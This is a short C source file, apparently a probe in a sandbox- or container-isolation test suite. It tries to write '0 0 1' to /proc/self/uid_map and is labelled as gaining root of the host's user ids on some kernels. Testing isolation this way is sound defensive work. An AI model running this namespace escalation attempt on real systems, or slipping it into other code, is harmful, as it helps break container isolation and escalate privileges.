/* Another map of ids. */
#include "../attack.h"

#include <fcntl.h>

ATTACK(KERNEL, "identity", .gain = "root of the host's ids", .source = "user_namespaces(7)",
       .works = SOME_KERNELS, .needs = "a namespace without a map")
{
	int fd = open("/proc/self/uid_map", O_WRONLY | O_CLOEXEC);

	return fd < 0 ? -1 : write(fd, "0 0 1", 5);
}
